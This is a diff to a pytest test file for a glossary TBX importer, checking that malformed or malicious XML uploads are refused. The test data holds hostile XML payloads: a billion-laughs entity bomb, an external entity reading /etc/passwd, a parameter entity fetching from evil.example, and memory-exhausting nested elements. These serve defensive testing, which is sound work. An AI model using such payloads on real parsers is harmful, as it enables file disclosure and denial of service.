@@ -4,20 +4,20 @@ import pytest
 from django.core.exceptions import ValidationError
 from django.utils.translation import override
 
-from glossary.interchange.tbx.document import LARGEST
+from glossary.interchange.tbx.reader import LARGEST, LONGEST
 from imports import foreign
-from tests.glossary.tbx_files import PLAIN, concept, read, v2, v3
+from tests.glossary.tbx_files import PLAIN, concept, read, v3
 
 GOOD = v3(concept(PLAIN))
 ENTITIES = (
-    '<?xml version="1.0"?>\n<!DOCTYPE martif [\n<!ENTITY a "ha">\n'
+    '<?xml version="1.0"?>\n<!DOCTYPE tbx [\n<!ENTITY a "ha">\n'
     '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n'
 )
-EXTERNAL = '<!DOCTYPE martif [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n'
-PARAMETER = '<!DOCTYPE martif [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>\n'
+EXTERNAL = '<!DOCTYPE tbx [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n'
+PARAMETER = '<!DOCTYPE tbx [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>\n'
 
 NOT_TBX, NOT_XML = "this is not a TBX file", "the file is not well-formed XML"
-DOCTYPE, TOO_LARGE = "the file has entities or a DTD", "the file is too large"
+DOCTYPE, TOO_LARGE = "The file has entities or a DTD", "The file is too large"
 
 
 @pytest.fixture(autouse=True)
@@ -35,37 +35,43 @@ REFUSED = {
     "nothing": (lambda: b" \n", "This is not a TBX file"),
     "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(99), f"Line 1: {NOT_XML}"),
     "a letter": (lambda: b"Dear colleagues", f"Line 1: {NOT_XML}"),
-    "billion laughs": (lambda: v2("&b;", beginning=ENTITIES), f"Line 2: {DOCTYPE}"),
+    "billion laughs": (lambda: ENTITIES + v3("&b;"), DOCTYPE),
     "an external entity": (
-        lambda: v2("&a;", beginning=EXTERNAL),
-        f"Line 1: {DOCTYPE}",
+        lambda: EXTERNAL + v3("&a;"),
+        DOCTYPE,
     ),
     "a parameter entity": (
-        lambda: v2(beginning=PARAMETER),
-        f"Line 1: {DOCTYPE}",
+        lambda: PARAMETER + v3(),
+        DOCTYPE,
     ),
     "a DTD in UTF-16": (
-        lambda: v2(beginning=PARAMETER).encode("utf-16"),
-        f"Line 1: {DOCTYPE}",
+        lambda: (PARAMETER + v3()).encode("utf-16"),
+        DOCTYPE,
     ),
     "a DTD without entities": (
-        lambda: v2(beginning='\n<!DOCTYPE martif [<!ATTLIST note a CDATA "b">]>\n'),
-        f"Line 2: {DOCTYPE}",
+        lambda: "<!DOCTYPE tbx [<!ATTLIST note a CDATA 'b'>]>\n" + v3(),
+        DOCTYPE,
     ),
     "an entity of a DTD that is not read": (
-        lambda: v2("<note>&nbsp;</note>", beginning='<!DOCTYPE martif SYSTEM "a">\n'),
-        f"Line 4: {DOCTYPE}",
+        lambda: '<!DOCTYPE tbx SYSTEM "a">\n' + v3("<note>&odd;</note>"),
+        DOCTYPE,
     ),
-    "an entity of no DTD": (changed("данные", "&nbsp;данные"), f"Line 4: {DOCTYPE}"),
+    "an entity of no DTD": (
+        changed("данные", "&nbsp;данные"),
+        f"Line 4: {NOT_XML}",
+    ),
     "200,000 nested elements": (
         lambda: GOOD.replace("<conceptEntry", "<x>" * 200_000 + "<conceptEntry"),
-        f"Line 3: {TOO_LARGE}",
+        TOO_LARGE,
     ),
     "200,000 nested elements in a text": (
         changed("данные", "<hi>" * 200_000 + "данные" + "</hi>" * 200_000),
-        f"Line 4: {TOO_LARGE}",
+        TOO_LARGE,
     ),
-    "a huge text": (changed("данные", "д" * 200_001), f"Line 3: {TOO_LARGE}"),
+    "a huge text": (
+        changed("данные", "д" * (LONGEST + 1)),
+        "Line 4: the file is too large",
+    ),
     "a huge file": (lambda: GOOD + " " * LARGEST, "The file is too large"),
     "a file that takes much memory": (
         lambda: v3(concept(PLAIN, "<a/>" * 3_000_000)),
@@ -73,7 +79,7 @@ REFUSED = {
     ),
     "too many entries": (
         lambda: v3(*["<conceptEntry/>"] * 10_001),
-        f"Line 10003: {TOO_LARGE}",
+        "Line 10003: the file is too large",
     ),
     "Windows-1251 that says it is UTF-8": (
         lambda: GOOD.encode("windows-1251"),
@@ -95,6 +101,7 @@ REFUSED = {
         changed("urn:iso:std:iso:30042:ed-2", "urn:other"),
         f"Line 1: {NOT_TBX}",
     ),
+    "TBX of 2008": (lambda: '<martif type="TBX"/>', f"Line 1: {NOT_TBX}"),
     "XLIFF": (lambda: "<?xml version='1.0'?>\n<xliff/>", f"Line 2: {NOT_TBX}"),
     "TBX-Min of 2014": (lambda: "<TBX dialect='TBX-Min'/>", f"Line 1: {NOT_TBX}"),
     "a web page": (
